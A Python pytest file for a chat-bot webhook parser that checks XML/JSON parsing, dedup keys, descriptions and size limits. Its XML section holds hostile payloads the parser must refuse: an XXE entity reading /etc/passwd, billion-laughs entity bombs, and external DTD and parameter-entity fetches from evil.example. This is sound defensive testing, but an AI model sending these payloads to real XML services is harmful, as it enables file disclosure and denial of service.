"""Parsing bodies, normalising events, dedup keys and descriptions."""

from __future__ import annotations

import pytest

from csbot.wire import BadPush, dedup_key, describe, normalize_event, parse_fields, render_fields, sniff_format


def event_from(body: str | bytes) -> dict:
    raw = body.encode() if isinstance(body, str) else body
    return normalize_event(parse_fields(raw, sniff_format(raw)))


# ------------------------------------------------------------------ sniffing


@pytest.mark.parametrize(
    "body, fmt",
    [(b"<xml/>", "xml"), (b" \r\n\t{}", "json"), (b"\xef\xbb\xbf<xml/>", "xml"), (b"\xef\xbb\xbf {}", "json")],
)
def test_format_is_sniffed_from_the_first_non_blank_byte(body, fmt):
    assert sniff_format(body) == fmt


@pytest.mark.parametrize("body", [b"", b"   ", b"success", b"[1,2]", b"\xff\xfe<\x00"])
def test_bodies_that_are_neither_xml_nor_json_are_bad_pushes(body):
    with pytest.raises(BadPush) as err:
        sniff_format(body)
    assert err.value.reason == "body is neither XML nor JSON"
    assert err.value.status == 400


# ------------------------------------------------------------------ XML


def test_xml_leaves_are_text_nested_elements_are_dicts_and_repeats_are_lists():
    body = b"<xml><A><![CDATA[ keep  spaces\n]]></A><B/><C><D>1</D><E>x</E><E>y</E></C></xml>"
    assert parse_fields(body, "xml") == {"A": " keep  spaces\n", "B": "", "C": {"D": "1", "E": ["x", "y"]}}


def test_xml_values_may_or_may_not_be_cdata_and_order_is_free():
    a = parse_fields(b"<xml><MsgType>text</MsgType><Content>hi &amp; bye</Content></xml>", "xml")
    b = parse_fields(b"<xml><Content><![CDATA[hi & bye]]></Content><MsgType><![CDATA[text]]></MsgType></xml>", "xml")
    assert a == b


_DTD = "DTD and entity declarations are not accepted"


@pytest.mark.parametrize(
    "body, reason",
    [
        # classic XXE: external entity reading a local file
        (b'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><Content>&xxe;</Content></xml>', _DTD),
        # billion laughs
        (b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
         b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><xml><a>&lol3;</a></xml>', _DTD),
        # external DTD after a comment
        (b'<!-- hi --><!DOCTYPE xml SYSTEM "http://evil.example/x.dtd"><xml/>', _DTD),
        # parameter entity
        (b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><xml/>', _DTD),
        # the byte-scanner bypass: a CDATA opener inside a processing instruction hid the DTD
        (b'<?x <![CDATA[ ?><!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa">]>'
         b"<xml><Content>&a;&a;&a;</Content><!-- ]]> --></xml>", _DTD),
        # a DTD after a processing instruction and a comment that mention CDATA
        (b'<?pi ]]> ?><!-- <![CDATA[ --><!DOCTYPE xml [<!ENTITY a "b">]><xml/>', _DTD),
        # not even well-formed: refused all the same, and nothing is ever expanded
        (b'<!-- hi --><!doctype xml SYSTEM "http://evil.example/x.dtd"><xml/>', "malformed XML"),
        (b"<xml><!ENTITY a 'b'></xml>", "malformed XML"),
        # an encoding declaration cannot change how the body is read (always UTF-8)
        (b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x+AD4-<xml/>', "malformed XML"),
        ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><xml>&a;</xml>'.encode("utf-16"),
         _DTD),
    ],
    ids=["xxe", "entity-bomb", "external-dtd", "parameter-entity", "cdata-in-pi", "pi-and-comment",
         "lowercase-doctype", "entity-decl-in-element", "utf7", "utf16"],
)
def test_dtds_and_entity_declarations_are_refused_by_the_parser(body, reason):
    with pytest.raises(BadPush) as err:
        parse_fields(body, "xml")
    assert err.value.status == 400
    assert err.value.reason == reason


def test_an_entity_bomb_is_refused_at_once_and_expands_nothing():
    """The reviewed attack: 879 KB that expanded to 77 MB. Now: refused where the DTD starts."""
    import time

    decls = b'<!ENTITY e0 "' + b"x" * 1000 + b'">' + b"".join(
        b'<!ENTITY e%d "%s">' % (i, b"&e%d;" % (i - 1) * 10) for i in range(1, 8))
    body = b'<?x <![CDATA[ ?><!DOCTYPE xml [' + decls + b"]><xml><Content>" + b"&e7;" * 200_000 + b"</Content></xml>"
    assert len(body) > 800_000
    started = time.perf_counter()
    with pytest.raises(BadPush, match="DTD"):
        parse_fields(body, "xml")
    assert time.perf_counter() - started < 0.5  # generous: it stops at the DOCTYPE


def test_predefined_entities_and_character_references_still_work():
    body = b"<xml><Content>a &lt;b&gt; &amp; &#20320;&#x597D; &quot;&apos;</Content></xml>"
    assert parse_fields(body, "xml") == {"Content": "a <b> & 你好 \"'"}


def test_doctype_text_inside_cdata_is_just_text():
    """A customer may type '<!DOCTYPE html>' into the chat; it arrives inside CDATA."""
    body = b"<xml><Content><![CDATA[<!DOCTYPE html><!ENTITY x>]]></Content><!-- <!x --></xml>"
    assert parse_fields(body, "xml") == {"Content": "<!DOCTYPE html><!ENTITY x>"}


@pytest.mark.parametrize(
    "body",
    [b"<xml><Content>hi</Content>", b"<xml><a>&undefined;</a></xml>", b"<xml></xm>", b"<xml>\xff\xfe</xml>", b"<x/><y/>"],
    ids=["truncated", "undefined-entity", "mismatched-tag", "invalid-utf8", "two-roots"],
)
def test_malformed_xml_is_a_bad_push(body):
    with pytest.raises(BadPush) as err:
        parse_fields(body, "xml")
    assert err.value.reason == "malformed XML"


def test_absurdly_deep_xml_is_refused():
    body = b"<xml>" + b"<a>" * 100 + b"x" + b"</a>" * 100 + b"</xml>"
    with pytest.raises(BadPush):
        parse_fields(body, "xml")


# ------------------------------------------------------------------ JSON


@pytest.mark.parametrize("body", [b"[]", b'"text"', b"42", b"null"])
def test_json_that_is_not_an_object_is_a_bad_push(body):
    with pytest.raises(BadPush):
        parse_fields(body, "json")


@pytest.mark.parametrize("body", [b'{"a":', b'{"a":1}x', b'{"a":"\xff"}', b'{"a":NaN}'])
def test_malformed_json_is_a_bad_push(body):
    with pytest.raises(BadPush) as err:
        parse_fields(body, "json")
    assert err.value.reason == "malformed JSON"


# ------------------------------------------------------------------ XML vs JSON: same event

SAME_EVENT = {
    "text": (
        "<xml><ToUserName><![CDATA[toUser]]></ToUserName><FromUserName><![CDATA[fromUser]]></FromUserName>"
        "<CreateTime>1482048670</CreateTime><MsgType><![CDATA[text]]></MsgType>"
        "<Content><![CDATA[this is a test]]></Content><MsgId>1234567890123456</MsgId></xml>",
        '{"ToUserName":"toUser","FromUserName":"fromUser","CreateTime":1482048670,"MsgType":"text",'
        '"Content":"this is a test","MsgId":1234567890123456}',
    ),
    "image": (
        "<xml>\n  <ToUserName><![CDATA[toUser]]></ToUserName>\n  <FromUserName><![CDATA[fromUser]]></FromUserName>\n"
        "  <CreateTime>1482048670</CreateTime>\n  <MsgType><![CDATA[image]]></MsgType>\n"
        "  <PicUrl><![CDATA[this is a url]]></PicUrl>\n  <MediaId><![CDATA[media_id]]></MediaId>\n"
        "  <MsgId>1234567890123456</MsgId>\n</xml>",
        '{"ToUserName":"toUser","FromUserName":"fromUser","CreateTime":1482048670,"MsgType":"image",'
        '"PicUrl":"this is a url","MediaId":"media_id","MsgId":1234567890123456}',
    ),
    "miniprogrampage": (
        "<xml><ToUserName><![CDATA[toUser]]></ToUserName><FromUserName><![CDATA[fromUser]]></FromUserName>"
        "<CreateTime>1482048670</CreateTime><MsgType><![CDATA[miniprogrampage]]></MsgType>"
        "<MsgId>1234567890123456</MsgId><Title><![CDATA[title]]></Title><AppId><![CDATA[appid]]></AppId>"
        "<PagePath><![CDATA[path]]></PagePath><ThumbUrl><![CDATA[]]></ThumbUrl><ThumbMediaId></ThumbMediaId></xml>",
        '{"ToUserName":"toUser","FromUserName":"fromUser","CreateTime":1482048670,"MsgType":"miniprogrampage",'
        '"MsgId":1234567890123456,"Title":"title","AppId":"appid","PagePath":"path","ThumbUrl":"","ThumbMediaId":""}',
    ),
    "user_enter_tempsession": (
        "<xml><ToUserName><![CDATA[toUser]]></ToUserName><FromUserName><![CDATA[fromUser]]></FromUserName>"
        "<CreateTime>1482048670</CreateTime><MsgType><![CDATA[event]]></MsgType>"
        "<Event><![CDATA[user_enter_tempsession]]></Event><SessionFrom><![CDATA[sessionFrom]]></SessionFrom></xml>",
        '{"ToUserName":"toUser","FromUserName":"fromUser","CreateTime":1482048670,"MsgType":"event",'
        '"Event":"user_enter_tempsession","SessionFrom":"sessionFrom"}',
    ),
}


@pytest.mark.parametrize("kind", sorted(SAME_EVENT))
def test_xml_and_json_pushes_give_the_same_event(kind):
    xml, js = SAME_EVENT[kind]
    from_xml, from_json = event_from(xml), event_from(js)
    assert from_xml == from_json
    assert from_xml["CreateTime"] == 1482048670
    if "MsgId" in from_xml:
        assert from_xml["MsgId"] == "1234567890123456"


@pytest.mark.parametrize("fmt", ["xml", "json"])
def test_msg_id_above_2_to_the_53_stays_exact(fmt):
    big = 2**63 - 7  # would be rounded as a double
    body = render_fields({"FromUserName": "u", "CreateTime": 1, "MsgType": "text", "Content": "x", "MsgId": big}, fmt)
    event = event_from(body)
    assert event["MsgId"] == str(big)
    assert dedup_key(event) == f"msg:{big}"


def test_create_time_given_as_a_json_string_becomes_an_int():
    event = event_from('{"FromUserName":"u","CreateTime":"1714037059","MsgType":"text","Content":"x"}')
    assert event["CreateTime"] == 1714037059


@pytest.mark.parametrize(
    "body, reason",
    [
        ('{"CreateTime":1,"MsgType":"text"}', "push has no FromUserName"),
        ('{"FromUserName":"","CreateTime":1,"MsgType":"text"}', "push has no FromUserName"),
        ('{"FromUserName":"u","CreateTime":1}', "push has no MsgType"),
        ('{"FromUserName":"u","MsgType":"text"}', "push has no CreateTime"),
        ('{"FromUserName":"u","CreateTime":"soon","MsgType":"text"}', "CreateTime is not an integer"),
    ],
)
def test_pushes_missing_common_fields_are_bad_pushes(body, reason):
    with pytest.raises(BadPush) as err:
        event_from(body)
    assert err.value.reason == reason


def test_unknown_msg_type_and_event_pass_through():
    event = event_from('{"FromUserName":"u","CreateTime":1,"MsgType":"hologram","Shape":3}')
    assert event["Shape"] == 3
    assert describe(event) is None
    event = event_from('{"FromUserName":"u","CreateTime":1,"MsgType":"event","Event":"future_thing"}')
    assert describe(event) == "[event] future_thing"


# ------------------------------------------------------------------ the subscribe-message List quirk


def popup_xml(*templates: str) -> str:
    items = "".join(
        f"<List><TemplateId><![CDATA[{t}]]></TemplateId><SubscribeStatusString><![CDATA[accept]]></SubscribeStatusString>"
        f"<PopupScene>0</PopupScene></List>"
        for t in templates
    )
    return (
        "<xml><ToUserName><![CDATA[gh_1]]></ToUserName><FromUserName><![CDATA[oUser]]></FromUserName>"
        "<CreateTime>1620963428</CreateTime><MsgType><![CDATA[event]]></MsgType>"
        f"<Event><![CDATA[subscribe_msg_popup_event]]></Event><SubscribeMsgPopupEvent>{items}</SubscribeMsgPopupEvent></xml>"
    )


def popup_json(*templates: str) -> str:
    items = [f'{{"TemplateId":"{t}","SubscribeStatusString":"accept","PopupScene":"0"}}' for t in templates]
    listed = items[0] if len(items) == 1 else "[" + ",".join(items) + "]"
    return (
        '{"ToUserName":"gh_1","FromUserName":"oUser","CreateTime":1620963428,"MsgType":"event",'
        f'"Event":"subscribe_msg_popup_event","List":{listed}}}'
    )


@pytest.mark.parametrize("templates", [("T1",), ("T1", "T2", "T3")], ids=["one-item", "several-items"])
def test_subscribe_items_are_always_a_list_and_xml_equals_json(templates):
    """JSON gives an object for one item and an array for several; XML repeats <List>."""
    from_xml, from_json = event_from(popup_xml(*templates)), event_from(popup_json(*templates))
    assert from_xml == from_json
    assert [item["TemplateId"] for item in from_xml["List"]] == list(templates)
    assert from_xml["SubscribeMsgPopupEvent"] == {"List": from_xml["List"]}


def test_subscribe_sent_event_msg_ids_become_strings_and_join_the_dedup_key():
    body = (
        '{"ToUserName":"gh_1","FromUserName":"oUser","CreateTime":1620963428,"MsgType":"event",'
        '"Event":"subscribe_msg_sent_event","List":{"TemplateId":"T1","MsgID":1700827132819554304,'
        '"ErrorCode":0,"ErrorStatus":"success"}}'
    )
    event = event_from(body)
    assert event["List"] == [{"TemplateId": "T1", "MsgID": "1700827132819554304", "ErrorCode": 0, "ErrorStatus": "success"}]
    assert dedup_key(event) == "evt:oUser:1620963428:subscribe_msg_sent_event:T1:1700827132819554304"


# ------------------------------------------------------------------ dedup keys


def test_event_dedup_key_is_user_time_event_plus_own_ids():
    event = normalize_event(
        {"FromUserName": "u", "CreateTime": "5", "MsgType": "event", "Event": "SCAN", "EventKey": "k", "Ticket": "t"}
    )
    assert dedup_key(event) == "evt:u:5:SCAN:k:t"


def test_pushes_without_msg_id_that_are_not_events_hash_their_content():
    a = normalize_event({"FromUserName": "u", "CreateTime": 5, "MsgType": "odd", "X": "1"})
    b = normalize_event({"MsgType": "odd", "X": "1", "CreateTime": 5, "FromUserName": "u"})
    c = normalize_event({"FromUserName": "u", "CreateTime": 5, "MsgType": "odd", "X": "2"})
    assert dedup_key(a).startswith("raw:")
    assert dedup_key(a) == dedup_key(b) != dedup_key(c)


def test_dedup_keys_stay_under_500_chars():
    event = normalize_event({"FromUserName": "u", "CreateTime": 5, "MsgType": "event", "Event": "CLICK", "EventKey": "k" * 2000})
    key = dedup_key(event)
    assert len(key) < 500
    other = dict(event, EventKey="k" * 1999 + "j")
    assert dedup_key(other) != key


# ------------------------------------------------------------------ describe


@pytest.mark.parametrize(
    "extra, text",
    [
        ({"MsgType": "text", "Content": "hello"}, "hello"),
        ({"MsgType": "image", "PicUrl": "u"}, "[image]"),
        ({"MsgType": "voice", "Recognition": "spoken words"}, "spoken words"),
        ({"MsgType": "voice", "Recognition": ""}, "[voice]"),
        ({"MsgType": "video"}, "[video]"),
        ({"MsgType": "shortvideo"}, "[video]"),
        ({"MsgType": "location", "Label": "Here", "Location_X": "23.1", "Location_Y": "113.3"}, "[location] Here (23.1,113.3)"),
        ({"MsgType": "link", "Title": "T", "Url": "https://x"}, "[link] T https://x"),
        ({"MsgType": "file", "Title": "a.pdf"}, "[file] a.pdf"),
        ({"MsgType": "miniprogrampage", "Title": "Card", "PagePath": "pages/i"}, "[mini program card] Card pages/i"),
        ({"MsgType": "event", "Event": "user_enter_tempsession", "SessionFrom": "sf"}, "[event] user_enter_tempsession sf"),
        ({"MsgType": "event", "Event": "CLICK", "EventKey": "menu_1"}, "[event] CLICK menu_1"),
    ],
)
def test_describe_gives_short_searchable_text(extra, text):
    assert describe({"FromUserName": "u", "CreateTime": 1, **extra}) == text


# ------------------------------------------------------------------ limits (both formats)


def _push(fmt: str, **fields) -> bytes:
    base = {"ToUserName": "gh", "FromUserName": "oU", "CreateTime": 1, "MsgType": "text", "MsgId": 1}
    return render_fields({**base, **fields}, fmt)


@pytest.mark.parametrize("fmt", ["xml", "json"])
def test_a_content_up_to_64_kib_is_kept_whole(fmt):
    text = "你" * (65536 // 3)  # 65535 bytes of UTF-8
    assert event_from(_push(fmt, Content=text))["Content"] == text


@pytest.mark.parametrize("fmt", ["xml", "json"])
@pytest.mark.parametrize("text", ["a" * 65537, "你" * 21846], ids=["ascii", "cjk"])
def test_a_field_over_64_kib_is_refused_not_truncated(fmt, text):
    with pytest.raises(BadPush) as err:
        event_from(_push(fmt, Content=text))
    assert err.value.status == 400 and err.value.reason == "field Content is longer than 65536 bytes"


def test_a_huge_xml_field_is_refused_before_it_is_read_whole():
    body = b"<xml><Content>" + b"a" * 5_000_000 + b"</Content></xml>"
    with pytest.raises(BadPush, match="longer than 65536"):
        parse_fields(body, "xml")


@pytest.mark.parametrize("fmt", ["xml", "json"])
def test_too_many_values_are_refused(fmt):
    body = _push(fmt, Extra={"A": ["x"] * 5000})
    with pytest.raises(BadPush, match="more than 4096 fields"):
        event_from(body)


@pytest.mark.parametrize("depth", [33, 900, 100_000])
def test_deeply_nested_json_is_a_400_not_a_recursion_error(depth):
    body = b'{"FromUserName":"o","MsgType":"text","CreateTime":1,"A":' + b"[" * depth + b"]" * depth + b"}"
    with pytest.raises(BadPush) as err:
        event_from(body)
    assert err.value.reason in ("JSON is nested too deeply", "malformed JSON")


@pytest.mark.parametrize("escaped", [r"\ud800", r"x\udfffy", r"\u0000", r"\udc00\ud800"])
def test_lone_surrogates_and_nul_in_json_text_are_refused(escaped):
    body = ('{"FromUserName":"o","MsgType":"text","CreateTime":1,"Content":"' + escaped + '"}').encode()
    with pytest.raises(BadPush, match="NUL character or a lone surrogate"):
        event_from(body)


def test_a_surrogate_pair_is_an_ordinary_character():
    body = rb'{"FromUserName":"o","MsgType":"text","CreateTime":1,"Content":"\ud83d\ude00"}'
    assert event_from(body)["Content"] == "\U0001f600"


def test_unstorable_keys_are_refused():
    with pytest.raises(BadPush, match="key"):
        event_from(rb'{"FromUserName":"o","MsgType":"text","CreateTime":1,"\ud800":1}')
    with pytest.raises(BadPush, match="key is longer"):
        event_from(('{"FromUserName":"o","MsgType":"text","CreateTime":1,"' + "k" * 200 + '":1}').encode())


@pytest.mark.parametrize("fmt", ["xml", "json"])
@pytest.mark.parametrize("field, width", [("FromUserName", 128), ("MsgType", 64), ("Event", 128), ("MsgId", 64)])
def test_fields_with_a_column_of_their_own_fit_it(fmt, field, width):
    assert event_from(_push(fmt, **{field: "x" * width}))[field] == "x" * width
    with pytest.raises(BadPush, match=f"{field} is longer than {width} characters"):
        event_from(_push(fmt, **{field: "x" * (width + 1)}))


@pytest.mark.parametrize("value", [{"a": 1}, [1, 2]])
@pytest.mark.parametrize("field", ["MsgId", "Event"])
def test_fields_with_a_column_of_their_own_are_single_values(field, value):
    """Found by the fuzz test: a JSON MsgId that is an object failed the store write (a 503)."""
    body = render_fields({"ToUserName": "gh", "FromUserName": "oU", "CreateTime": 1, "MsgType": "event",
                          field: value}, "json")
    with pytest.raises(BadPush, match=f"{field} is not a single value"):
        event_from(body)
